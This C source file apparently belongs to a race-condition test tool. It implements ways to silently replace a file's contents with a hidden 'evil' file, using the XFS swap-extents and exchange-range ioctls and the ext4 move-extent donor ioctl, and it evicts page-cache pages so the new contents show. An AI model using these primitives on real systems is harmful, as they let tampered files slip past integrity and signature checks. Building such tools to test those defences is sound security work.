/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Changers that swap the blocks of two files by an ioctl of the file system. Their
 * structures are written down here: Debian's kernel headers do not have them.
 *
 * Owns: the other file.
 * Must not own: rounds, opens.
 */
#include "race.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/ioctl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

struct xfs_time {
	long seconds;
	int32_t nanoseconds;
};

/* Only the two times are looked at: the file must not have changed since. */
struct xfs_stat {
	uint64_t head[5];
	struct xfs_time accessed, modified, changed;
	uint64_t tail[6];
};

struct xfs_swap {
	int64_t version, fd_target, fd_other, offset, length;
	char pad[16];
	struct xfs_stat stat;
};

struct xfs_exchange {
	int32_t fd;
	uint32_t pad;
	uint64_t offset, own_offset, length, flags;
};

struct ext4_move {
	uint32_t reserved, fd_donor;
	uint64_t start, donor_start, length, moved; /* blocks */
};

#define LEAVE_TRIES 1000

#define IOC_XFS_SWAP     _IOWR('X', 109, struct xfs_swap)
#define IOC_XFS_EXCHANGE _IOW('X', 129, struct xfs_exchange)
#define IOC_EXT4_MOVE    _IOWR('f', 15, struct ext4_move)

/* Both files open; the other one holds the malicious content and has no name any more. */
static int open_both(struct target *t)
{
	char name[RACE_PATH + 8];
	int r;

	snprintf(name, sizeof(name), "%s.evil", t->path);
	t->fd2 = race_open(name, O_RDWR | O_CREAT | O_EXCL);
	if (t->fd2 < 0)
		return t->fd2;
	unlink(name);
	r = race_put(t, t->fd2);
	if (r == 0)
		r = race_result(fsync(t->fd2), 0);
	if (r < 0)
		return r;
	t->fd = race_open(t->path, O_RDWR);
	return t->fd < 0 ? t->fd : 0;
}

static int change_swap(struct target *t)
{
	struct xfs_swap swap = {.length = (int64_t)t->evil_size};
	struct stat st;
	int r = open_both(t);

	if (r < 0)
		return r;
	if (fstat(t->fd, &st) < 0)
		return -errno;
	swap.fd_target = t->fd;
	swap.fd_other = t->fd2;
	swap.stat.modified.seconds = st.st_mtim.tv_sec;
	swap.stat.modified.nanoseconds = (int32_t)st.st_mtim.tv_nsec;
	swap.stat.changed.seconds = st.st_ctim.tv_sec;
	swap.stat.changed.nanoseconds = (int32_t)st.st_ctim.tv_nsec;
	return race_result(ioctl(t->fd, IOC_XFS_SWAP, &swap), 0);
}

static int change_swap_closed(struct target *t)
{
	int r = change_swap(t);

	close(t->fd);
	close(t->fd2);
	t->fd = t->fd2 = -1;
	return r;
}

static int change_exchange(struct target *t)
{
	struct xfs_exchange exchange = {.length = t->evil_size};
	int r = open_both(t);

	if (r < 0)
		return r;
	exchange.fd = t->fd2;
	return race_result(ioctl(t->fd, IOC_XFS_EXCHANGE, &exchange), 0);
}

/* A page that somebody reads at this moment stays: try again until none is left. */
static int leave_memory(const struct target *t)
{
	unsigned char present[RACE_MAX_FILE / 4096 + 1];
	const size_t pages = (t->evil_size + 4095) / 4096;
	void *map = mmap(NULL, t->evil_size, PROT_READ, MAP_SHARED, t->fd, 0);
	int r = -EBUSY;

	if (map == MAP_FAILED)
		return -errno;
	for (unsigned i = 0; r == -EBUSY && i < LEAVE_TRIES; i++) {
		size_t n = 0;

		r = -posix_fadvise(t->fd, 0, 0, POSIX_FADV_DONTNEED);
		if (r == 0)
			r = race_result(mincore(map, t->evil_size, present), 0);
		for (size_t page = 0; r == 0 && page < pages; page++)
			n += present[page] & 1;
		if (n) {
			r = -EBUSY;
			usleep(1000);
		}
	}
	munmap(map, t->evil_size);
	return r;
}

/*
 * The target is the donor of blocks for another file. What it gets back counts as never
 * written: it reads as zeros once its page has left memory, which any user can see to.
 */
static int change_donor(struct target *t)
{
	struct ext4_move move = {0};
	struct stat st;
	int r = open_both(t);

	if (r == 0)
		r = race_result(fsync(t->fd), 0);
	if (r == 0)
		r = race_result(fstat(t->fd, &st), 0);
	if (r < 0)
		return r;
	move.start = move.donor_start = move.length = RACE_BLOCK / (uint64_t)st.st_blksize;
	move.fd_donor = (uint32_t)t->fd;
	r = race_result(ioctl(t->fd2, IOC_EXT4_MOVE, &move), 0);
	if (r == 0)
		r = race_result(fdatasync(t->fd), 0);
	return r < 0 ? r : leave_memory(t);
}

#define SWAP(NAME, CHANGE)                                                             \
	{                                                                              \
		.name = NAME, .kind = CONTENT_LISTED, .flags = CHANGER_ROOT_SLIPS,     \
		.change = CHANGE                                                       \
	}

const struct changer race_swap[] = {
	SWAP("xfs-swap", change_swap),
	SWAP("xfs-swap-closed", change_swap_closed),
	SWAP("xfs-exchange", change_exchange),
	{.name = "ext4-donor", .kind = CONTENT_HOLE, .flags = CHANGER_ROOT_SLIPS,
	 .change = change_donor},
	{.name = NULL},
};
